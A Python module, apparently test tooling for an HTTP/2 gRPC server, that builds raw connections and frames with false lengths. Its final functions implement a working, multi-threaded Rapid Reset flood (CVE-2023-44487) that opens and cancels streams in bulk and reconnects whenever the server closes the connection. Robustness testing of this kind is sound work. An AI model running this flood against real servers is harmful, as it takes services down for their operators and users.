"""HTTP/2 of misbehaving clients: raw connections, frames, and floods of stream resets (CVE-2023-44487)."""

import contextlib
import functools
import itertools
import socket
import struct
import time
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from typing import Final, Self

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, DataReceived, Event, RemoteSettingsChanged, StreamEnded, StreamReset
from h2.exceptions import H2Error
from h2.settings import SettingCodes
from hpack import Encoder
from hyperframe.frame import (
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HELLO: Final = PREFACE + SettingsFrame().serialize()  # of a client that accepts all defaults
TLS_HELLO: Final = bytes.fromhex("16030100a5010000a10303") + bytes(range(32)) + bytes(120)

_TIMEOUT_S: Final = 10.0
_READ_BYTES: Final = 65_536
_RESETS_AT_ONCE: Final = 200
Headers = Sequence[tuple[str, str]]


def call_headers(path: str, timeout_s: float = 60.0) -> Headers:
    """Return the headers of a gRPC call."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    return [*headers, ("te", "trailers"), ("content-type", "application/grpc"), ("grpc-timeout", f"{timeout_s:.0f}S")]


def grpc_message(message: bytes, *, length: int | None = None) -> bytes:
    """Return a message with a length prefix, by default the true length."""
    return struct.pack(">BI", 0, len(message) if length is None else length) + message


def raw_frame(kind: int, flags: int, stream: int, payload: bytes, *, length: int | None = None) -> bytes:
    """Return a frame of any type, by default with the true length."""
    size = len(payload) if length is None else length
    return size.to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


class RawConnection(H2Connection):
    """A connection that can send HTTP/2 or arbitrary bytes; it raises no error when the server closes it.

    Args:
        address: HOST:PORT.
        window_bytes: initial flow-control window; with 0, the server may send statuses but no data.
    """

    def __init__(self, address: str, *, window_bytes: int | None = None) -> None:
        super().__init__(H2Configuration(validate_outbound_headers=False))
        plain_encode = functools.partial(self.encoder.encode, huffman=False)  # Huffman takes minutes for a megabyte
        self.encoder.encode = plain_encode  # type: ignore[method-assign]
        self.initiate_connection()
        if window_bytes is not None:
            self.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: window_bytes})
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=_TIMEOUT_S)
        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.is_closed = False

    def begin(self) -> Self:
        """Send the preface and acknowledge the server's settings."""
        self.flush()
        next((event for event in self.events(_TIMEOUT_S) if isinstance(event, RemoteSettingsChanged)), None)
        self.flush()
        return self

    def call(self, path: str, content: bytes, *, timeout_s: float = 60, extra: Headers = (), ends: bool = True) -> int:
        """Send a call with extra headers; return its stream id."""
        stream = self.get_next_available_stream_id()
        self.send_headers(stream, [*call_headers(path, timeout_s), *extra])
        for begin in range(0, len(content), self.max_outbound_frame_size):
            self.send_data(stream, content[begin : begin + self.max_outbound_frame_size])
        if ends:
            self.end_stream(stream)
        self.flush()
        return stream

    def flush(self) -> None:
        """Send the pending frames of h2."""
        self.send(self.data_to_send())

    def send(self, content: bytes) -> None:
        """Send bytes, until the server closes the connection or reads nothing for 10 s."""
        self._socket.settimeout(_TIMEOUT_S)
        try:
            self._socket.sendall(content)
        except OSError as error:  # pending responses can still be read
            self.is_closed |= isinstance(error, TimeoutError)

    def events(self, timeout_s: float) -> Iterator[Event]:
        """Yield events until the server is silent for the timeout or closes the connection."""
        while not self.is_closed and (received := self._receive(timeout_s)):
            with contextlib.suppress(H2Error):  # responses to bytes that h2 did not send
                yield from self.receive_data(received)

    def reply(self, timeout_s: float) -> str:
        """Return the result of a call: answered, rejected, the error of the connection, closed, or ignored."""
        for event in self.events(timeout_s):
            if isinstance(event, DataReceived):
                return "answered"
            if isinstance(event, StreamReset | StreamEnded):
                return "rejected"
            if isinstance(event, ConnectionTerminated):
                return getattr(event.error_code, "name", str(event.error_code))
        return "closed" if self.is_closed else "ignored"

    def wait_until_closed(self, timeout_s: float) -> bool:
        """Discard input until the server closes the connection; return False after the timeout."""
        until_s = time.monotonic() + timeout_s
        while not self.is_closed and (left_s := until_s - time.monotonic()) > 0:
            self._receive(left_s)
        return self.is_closed

    def close(self, *, with_reset: bool = True) -> None:
        """Close the connection; a reset frees the port at once."""
        with contextlib.suppress(OSError):
            if with_reset:
                self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self._socket.close()

    def _receive(self, timeout_s: float) -> bytes:
        self._socket.settimeout(max(timeout_s, 0.001))
        content = b""
        with contextlib.suppress(TimeoutError):
            with contextlib.suppress(ConnectionError):
                content = self._socket.recv(_READ_BYTES)
            self.is_closed = not content
        return content


def flood_with_resets(address: str, path: str, *, num_connections: int, seconds: float, extra: Headers = ()) -> int:
    """Begin calls of a method and reset them at once; return their number. Closed connections are replaced."""
    headers, until_s = [*call_headers(path), *extra], time.monotonic() + seconds

    def flood(_: int) -> int:
        num_resets = 0
        while time.monotonic() < until_s:
            with contextlib.suppress(OSError), contextlib.closing(RawConnection(address)) as connection:
                for content in _resets(headers):
                    connection.send(content)
                    if connection.wait_until_closed(0.0005) or time.monotonic() >= until_s:
                        break
                    num_resets += _RESETS_AT_ONCE
        return num_resets

    with ThreadPoolExecutor(num_connections) as pool:
        return sum(pool.map(flood, range(num_connections)))


def _resets(headers: Headers) -> Iterator[bytes]:
    """Yield endless resets after a beginning; built by hand, because hyperframe is slower than the server."""
    encoder, cancel = Encoder(), struct.pack(">I", ErrorCodes.CANCEL)
    first, block = encoder.encode(headers), encoder.encode(headers)
    begin, reset = HeadersFrame(1, block, flags=["END_HEADERS"]).serialize()[:5], RstStreamFrame(1).serialize()[:5]
    yield HELLO + SettingsFrame(flags=["ACK"]).serialize() + HeadersFrame(1, first, flags=["END_HEADERS"]).serialize()
    for first_stream in itertools.count(3, 2 * _RESETS_AT_ONCE):
        streams = [struct.pack(">I", first_stream + 2 * number) for number in range(_RESETS_AT_ONCE)]
        yield b"".join(begin + stream + block + reset + stream + cancel for stream in streams)
